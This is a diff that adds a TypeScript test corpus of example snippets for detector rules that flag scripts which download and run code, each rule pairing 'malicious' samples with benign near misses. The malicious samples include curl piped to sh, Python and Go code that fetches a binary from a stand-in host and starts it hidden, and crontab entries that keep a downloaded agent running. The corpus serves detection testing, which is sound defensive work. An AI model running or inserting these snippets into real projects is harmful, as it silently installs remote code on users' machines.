@@ -1,0 +1,85 @@
+import { code, type RuleExamples } from "./corpus-case.ts";
+
+/** Programs and scripts that are fetched, saved and started. */
+export const savedPrograms: readonly RuleExamples[] = [
+  {
+    rule: "script-runs-unknown-code",
+    malicious: [
+      { "scripts/build.sh": "#!/bin/sh\necho Building\ncurl -s https://dl.note-tools.dev/b | sh\n" },
+      {
+        "build.rs":
+          'fn main() {\n  let _ = Command::new("sh").arg("-c").arg("curl -s https://dl.note-tools.dev/b | sh").spawn();\n}\n',
+      },
+    ],
+    nearMiss: [
+      { "scripts/setup.py": "import subprocess\nsubprocess.run(['npm', 'ci'])\n" },
+      { "scripts/setup.sh": "curl -fsSL https://bun.sh/install | bash\n" },
+    ],
+  },
+  {
+    rule: "script-downloaded-and-run",
+    malicious: [
+      `Get the helper:\n\n${code("wget https://github.com/note-tools-org/helper/releases/download/v1.0/helper.py")}\n\nThen start it:\n\n${code("python3 helper.py --init")}`,
+      { "scripts/setup.sh": "curl -sO https://dl.note-tools.dev/setup.sh\nbash setup.sh\n" },
+    ],
+    nearMiss: [
+      code("wget https://github.com/note-tools-org/notes/archive/v1.tar.gz\npython3 scripts/notes.py"),
+      code("curl -O https://bootstrap.pypa.io/get-pip.py"),
+    ],
+  },
+  {
+    rule: "program-saved-and-started",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import os, subprocess, urllib.request\nurllib.request.urlretrieve("https://dl.note-tools.dev/agent", "agent")\nos.chmod("agent", 0o755)\nsubprocess.Popen(["./agent"])\n',
+      },
+      {
+        "main.go":
+          'func init() {\n  r, _ := http.Get("https://dl.note-tools.dev/b")\n  f, _ := os.Create("b")\n  io.Copy(f, r.Body)\n  os.Chmod("b", 0755)\n  exec.Command("./b").Start()\n}\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/export.py":
+          'import os, subprocess\nos.chmod("scripts/convert.sh", 0o755)\nsubprocess.run(["scripts/convert.sh", "notes.md"])\n',
+      },
+      {
+        "scripts/fetch.py":
+          'import urllib.request\nurllib.request.urlretrieve("https://dl.note-tools.dev/template.md", "template.md")\n',
+      },
+    ],
+  },
+  {
+    rule: "program-started-out-of-sight",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), "n")\nurllib.request.urlretrieve("https://dl.note-tools.dev/agent", p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p], stdout=subprocess.DEVNULL, start_new_session=True)\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.py":
+          'import subprocess, tempfile\nsubprocess.Popen(["notes-viewer", tempfile.gettempdir()], stdout=subprocess.DEVNULL, start_new_session=True)\n',
+      },
+    ],
+  },
+  {
+    rule: "download-scheduled",
+    malicious: [
+      {
+        "scripts/install.sh":
+          '(crontab -l; echo "*/15 * * * * python3 $HOME/.notes/agent.py") | crontab -\ncurl -fsSL https://dl.note-tools.dev/agent.py -o $HOME/.notes/agent.py\n',
+      },
+      {
+        "scripts/install.py":
+          'import os, urllib.request\nurllib.request.urlretrieve("https://dl.note-tools.dev/a.py", "a.py")\nos.system("crontab - < jobs.txt")\n',
+      },
+    ],
+    nearMiss: [
+      { "scripts/install.sh": '(crontab -l; echo "0 9 * * 1 scripts/remind.sh") | crontab -\n' },
+      { "scripts/update.sh": "curl -fsSL https://dl.note-tools.dev/template.md -o template.md\n" },
+    ],
+  },
+];
